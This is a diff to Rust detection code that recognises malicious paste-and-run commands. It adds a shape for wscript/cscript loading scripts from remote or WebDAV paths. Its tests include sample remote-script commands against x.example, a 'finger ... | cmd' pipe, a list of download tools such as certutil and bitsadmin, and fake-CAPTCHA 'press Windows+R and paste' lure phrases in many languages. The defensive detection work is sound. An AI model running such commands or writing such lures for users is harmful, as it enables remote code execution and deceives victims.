@@ -58,6 +58,8 @@ pub enum Shape {
     Regsvr32Url,
     /// `msiexec` installing from a URL.
     MsiexecUrl,
+    /// `wscript`/`cscript` running a script from a URL or a UNC (WebDAV) path.
+    ScriptHostUrl,
     /// `certutil -urlcache` / `-decode`.
     Certutil,
     /// `bitsadmin /transfer`.
@@ -89,6 +91,7 @@ impl Shape {
             Shape::Rundll32 => "rundll32",
             Shape::Regsvr32Url => "regsvr32_url",
             Shape::MsiexecUrl => "msiexec_url",
+            Shape::ScriptHostUrl => "script_host_url",
             Shape::Certutil => "certutil_download",
             Shape::Bitsadmin => "bitsadmin_transfer",
             Shape::DownloadStart => "download_and_start",
@@ -363,6 +366,9 @@ fn shapes(flat: &str) -> Vec<Shape> {
     if prog("msiexec") && has_url(flat) {
         out.push(Shape::MsiexecUrl);
     }
+    if (prog("wscript") || prog("cscript")) && has_url(flat) {
+        out.push(Shape::ScriptHostUrl);
+    }
     if prog("certutil")
         && ["urlcache", "decode", "decodehex", "verifyctl"]
             .iter()
@@ -427,6 +433,7 @@ const ALL_SHAPES: &[Shape] = &[
     Shape::Rundll32,
     Shape::Regsvr32Url,
     Shape::MsiexecUrl,
+    Shape::ScriptHostUrl,
     Shape::Certutil,
     Shape::Bitsadmin,
     Shape::DownloadStart,
@@ -922,6 +929,16 @@ mod tests {
             vec![Shape::Bitsadmin]
         );
         assert!(shapes_of("finger s@x.example | cmd").contains(&Shape::Cmd));
+        assert_eq!(
+            shapes_of("wscript \\\\x.example@SSL\\DavWWWRoot\\v.js"),
+            vec![Shape::ScriptHostUrl]
+        );
+        assert_eq!(
+            shapes_of("cscript //nologo \\\\x.example\\s\\v.vbs"),
+            vec![Shape::ScriptHostUrl]
+        );
+        // A local script is what admins run; it is not a shape.
+        assert!(recognise("cscript //nologo C:\\Windows\\System32\\slmgr.vbs /dli").is_none());
     }
 
     #[test]
@@ -1114,6 +1131,14 @@ mod tests {
             "Tryk på Windows-tasten + R og indsæt",
             "Trykk Windows-tasten + R og lim inn",
             "Mantenga presionada la tecla de Windows y pulse R, pegue el código",
+            "Hold down the Windows key and press R, then paste",
+            "Halten Sie die Windows-Taste gedrückt und drücken Sie R",
+            "Tieni premuto il tasto Windows e premi R, incolla",
+            "Mantenha pressionada a tecla Windows e pressione R, cole",
+            "Windows tuşunu basılı tutun ve R tuşuna basın",
+            "Windowsキーを押しながらRキーを押し、貼り付けます",
+            "Windows 키를 누른 상태에서 R 키를 누르세요",
+            "按住 Windows 鍵再按 R，按 Ctrl+V 貼上",
             "Pulse la tecla de Windows + R y después pulse Intro",
         ] {
             assert!(judged(clip, text), "{text}");
@@ -1141,6 +1166,13 @@ mod tests {
             "Verifique que es un ser humano",
             "Verifica di essere un essere umano",
             "Confirme que você não é um robô",
+            "Confirm you're a human",
+            "Conferma di non essere un robot",
+            "Verifique se você é humano",
+            "İnsan olduğunuzu kanıtlayın",
+            "ロボットではないことを確認してください",
+            "로봇이 아님을 증명하세요",
+            "請驗證您不是機器人",
         ] {
             assert!(judged("cmd /c calc", text), "{text}");
         }
